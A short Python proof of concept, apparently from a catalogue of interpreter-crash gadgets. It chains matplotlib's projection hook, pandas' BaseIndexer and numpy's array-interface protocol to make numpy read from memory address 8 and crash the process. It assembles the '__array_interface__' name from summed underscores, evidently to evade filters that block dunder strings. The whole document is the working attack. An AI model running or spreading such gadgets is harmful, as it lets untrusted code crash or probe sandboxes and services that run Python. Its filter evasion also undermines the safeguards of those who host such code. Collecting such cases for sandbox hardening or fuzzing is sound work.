# class: string-address
# mechanism: keyword that loads or frees
# how: an object that is given as projection= answers _as_mpl_axes() with what is to be called and with which keywords: under computed names, which BaseIndexer makes attributes of, and numpy asks one for an address
# reaches: crash
import matplotlib.pyplot as plt
import numpy as np
import pandas as pd
from pandas.api.indexers import BaseIndexer

mark = pd.Series(["_"]).sum() * 2


class Projection:
    def _as_mpl_axes(self):
        place = dict(data=(8, True), shape=(6,), typestr="|u1", version=3)
        return BaseIndexer, {mark + "array_interface" + mark: place}

print(bytes(np.asarray(plt.figure().add_axes([0, 0, 1, 1], projection=Projection()))))
